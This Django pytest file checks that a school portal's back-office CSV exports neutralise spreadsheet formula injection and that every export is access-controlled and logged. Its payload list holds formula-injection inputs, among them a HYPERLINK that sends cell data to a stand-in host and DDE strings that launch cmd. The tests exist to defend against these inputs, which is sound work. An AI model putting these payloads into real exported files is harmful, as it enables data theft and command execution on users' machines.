"""A list taken away opens in a spreadsheet, and nothing in it runs (SAFETY T49)."""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from django.contrib.admin import site
from django.core.exceptions import ImproperlyConfigured
from django.db import connection
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import Registration, User
from audit.models import Record
from back_office import exports
from back_office.exports import Column, harmless, lines
from notifications.models import Message
from tests.accounts.conftest import Family
from tests.accounts.staff import appoint, staff_client

SIGN_UPS = "/administration/accounts/registration/"
OUTBOX = "/administration/notifications/message/"
REASON = "Relance téléphonique des familles."
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"
PAYLOADS = [
    '=HYPERLINK("https://mal.example/?c="&A1;"Cliquez")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    '"=1+1',
    '";=1+1',
    "Léa;=1+1",
    "Léa,=1+1",
    "Léa\n=1+1",
    "Léa\t =1+1",
    '","=1+1","',
    "\x00=1+1",
    '=DDE("cmd";"/C calc";"x")',
]
HARMLESS = [
    "",
    "Léa",
    "Jean-Paul",
    "d’Artagnan",
    "a=b",
    "lea+mcm@exemple.fr",
    "1-2",
    "Zoé (6e=B)",
    "O'Neill",
    "—",
]


def read(text: str, delimiter: str = ";") -> list[list[str]]:
    """Read a file as a spreadsheet does."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet that skips all that is not seen, and quotation marks, would run a cell."""
    seen = "".join(sign for sign in cell if unicodedata.category(sign)[0] not in "ZC" and sign != '"')
    return seen[:1] in SIGNS if seen else False


def body(answer: Any) -> str:
    assert answer.status_code == 200 and answer["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(answer.streaming_content).decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_somebody_is_called_never_begins_a_formula(payload: str) -> None:
    columns = [Column("Nom", lambda row: row), Column("Prénom", lambda row: "Zoé")]
    [_title, cells] = read("".join(lines(columns, [payload])))
    assert cells[1:] == ["Zoé"], "the cell broke out of its place"
    assert "'" in cells[0] and not runs(cells[0])
    assert cells[0].replace("'", "") == payload.replace("'", ""), "something was lost"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", "\t", "|"])
def test_nor_when_the_file_is_opened_with_the_wrong_separator(payload: str, delimiter: str) -> None:
    columns = [Column("Nom", lambda row: "Zoé"), Column("Prénom", lambda row: row)]
    for cells in read("".join(lines(columns, [payload])), delimiter):
        assert not any(runs(cell) for cell in cells), cells


@pytest.mark.parametrize("name", HARMLESS)
def test_a_name_that_harms_nobody_stays_as_it_is(name: str) -> None:
    assert harmless(name) == name


def test_titles_are_made_harmless_too() -> None:
    assert read("".join(lines([Column("=1+1", str)], [])))[0] == ["'=1+1"]


def test_a_french_excel_reads_it(db: None) -> None:
    text = "".join(
        lines(
            [Column("Écrit le", lambda row: row), Column("Nom", lambda row: 'Œlya « la "grande" »')],
            [datetime(2026, 7, 1, 12, 0, 5, tzinfo=UTC)],
        )
    )
    assert text.startswith("\ufeff") and text.count("\r\n") == 2 and text.endswith("\r\n")
    assert read(text) == [["Écrit le", "Nom"], ["2026-07-01 14:00:05", 'Œlya « la "grande" »']]
    assert '"Œlya « la ""grande"" »"' in text


def test_no_export_goes_unnoted() -> None:
    silent = exports.ExportMixin(Message, site)
    with pytest.raises(ImproperlyConfigured):
        silent.note_export(RequestFactory().get("/"), "Pour le rectorat")


@pytest.fixture
def dane(portal: None) -> Client:
    return staff_client(appoint(None, "dane", "70"))


@pytest.fixture
def letters_of_two_academies(portal: None) -> None:
    for number, academy in enumerate(["70", "70", "10", ""]):
        Message.objects.create(
            kind="accounts.registration", reference=f"r{number}", to=f"p{number}@exemple.fr", academy=academy,
            state="dead" if number == 0 else "waiting", last_error="550 5.1.1" if number == 0 else "",
        )  # fmt: skip


@pytest.mark.django_db
def test_staff_take_away_the_list_they_see_and_nothing_beyond(
    dane: Client, letters_of_two_academies: None
) -> None:
    assert "exporter/?state=dead" in dane.get(f"{OUTBOX}?state=dead").content.decode()
    everything = read(body(dane.post(f"{OUTBOX}exporter/", {"reason": REASON})))
    assert [line[2] for line in everything[1:]] == ["p1@exemple.fr", "p0@exemple.fr"]
    refused = read(body(dane.post(f"{OUTBOX}exporter/?state=dead", {"reason": REASON})))
    assert [line[2] for line in refused[1:]] == ["p0@exemple.fr"]
    assert refused[1][1] == "Inscription à confirmer"
    one = read(body(dane.post(f"{OUTBOX}exporter/?q=p1@exemple.fr", {"reason": REASON})))
    assert [line[2] for line in one[1:]] == ["p1@exemple.fr"]


@pytest.mark.django_db
def test_lines_leave_several_at_once(
    dane: Client, letters_of_two_academies: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "LINES_AT_ONCE", 2)
    pieces = list(dane.post(f"{OUTBOX}exporter/", {"reason": REASON}).streaming_content)
    assert [piece.count(b"\r\n") for piece in pieces] == [2, 1]  # the title and two rows


@pytest.mark.django_db
def test_each_export_says_why_and_stands_in_the_journal(dane: Client, letters_of_two_academies: None) -> None:
    answer = dane.post(f"{OUTBOX}exporter/", {"reason": "non"})
    assert answer.status_code == 200 and "dix caractères au moins" in answer.content.decode()
    assert dane.get(f"{OUTBOX}exporter/").status_code == 200
    assert not Record.objects.filter(act="list.exported").exists()
    dane.post(f"{OUTBOX}exporter/", {"reason": REASON})  # noted before its first line is read
    noted = Record.objects.get(act="list.exported")
    assert noted.actor == User.objects.get(is_staff=True).subject
    assert (noted.subject, noted.reason, noted.academy) == ("list:notifications.message", REASON, "70")


@pytest.mark.django_db
def test_an_export_of_two_academies_is_found_by_the_readers_of_each(letters_of_two_academies: None) -> None:
    staff = appoint(appoint(None, "dane", "70"), "dane", "10")
    staff_client(staff).post(f"{OUTBOX}exporter/", {"reason": REASON})
    assert set(Record.objects.filter(act="list.exported").values_list("academy", flat=True)) == {"70", "10"}


@pytest.mark.django_db
def test_who_may_not_read_a_list_cannot_take_it_away(letters_of_two_academies: None) -> None:
    reader = staff_client(appoint(None, "dpo"))
    assert reader.get(f"{OUTBOX}exporter/").status_code == 404
    assert reader.post(f"{OUTBOX}exporter/", {"reason": REASON}).status_code == 404
    national = staff_client(appoint(None, "national"))
    assert national.post(f"{OUTBOX}exporter/?to__contains=p", {"reason": REASON}).status_code in (400, 404)
    assert not Record.objects.filter(act="list.exported").exists()


@pytest.mark.django_db
def test_whose_password_was_asked_for_long_ago_is_asked_again(
    dane: Client, letters_of_two_academies: None
) -> None:
    session = dane.session
    session["account_authentication_methods"] = [
        {**proof, "at": proof["at"] - 3600} for proof in session["account_authentication_methods"]
    ]
    session.save()
    for answer in (dane.get(f"{OUTBOX}exporter/"), dane.post(f"{OUTBOX}exporter/", {"reason": REASON})):
        assert answer.status_code == 302 and answer["Location"].startswith("/mon-compte/identite/")
    assert not Record.objects.filter(act="list.exported").exists()


@pytest.mark.django_db
def test_an_empty_list_is_no_file(dane: Client, portal: None) -> None:
    Message.objects.all().delete()
    assert (
        dane.post(f"{OUTBOX}exporter/?state=void", {"reason": REASON})["Location"] == f"{OUTBOX}?state=void"
    )


@pytest.mark.django_db
def test_a_long_list_is_cut_and_read_piece_by_piece(
    dane: Client, portal: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MOST_ROWS", 1200)
    Message.objects.bulk_create(
        Message(kind="k.k", reference=str(number), to="x@exemple.fr", academy="70") for number in range(1300)
    )
    with CaptureQueriesContext(connection):
        text = body(dane.post(f"{OUTBOX}exporter/", {"reason": REASON}))
    assert len(read(text)) == 1 + 1200


@pytest.mark.django_db
def test_the_page_says_how_many_lines_at_most_and_the_file_its_day(
    dane: Client, letters_of_two_academies: None
) -> None:
    assert "10\u202f000" in dane.get(f"{OUTBOX}exporter/").content.decode()
    answer = dane.post(f"{OUTBOX}exporter/", {"reason": REASON})
    day = timezone.localdate()
    assert answer["Content-Disposition"] == f'attachment; filename="messages-{day:%Y-%m-%d}.csv"'
    assert "no-store" in answer["Cache-Control"]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", ["=HYPERLINK(1)", "Léa;=1+1", "＝1"])
def test_a_child_with_a_formula_for_a_name_harms_nobody(
    dane: Client, family: Family, person: Callable[..., User], payload: str
) -> None:
    family.sign_up()
    Registration.objects.update(first_name=payload, last_name=payload)  # past what our form takes
    assert "exporter/" in dane.get(SIGN_UPS).content.decode()
    [_titles, cells] = read(body(dane.post(f"{SIGN_UPS}exporter/", {"reason": REASON})))
    assert sum("'" in cell for cell in cells) == 2
    assert not any(runs(cell) for cell in cells)
    assert Record.objects.filter(act="list.exported", subject="list:accounts.registration").exists()
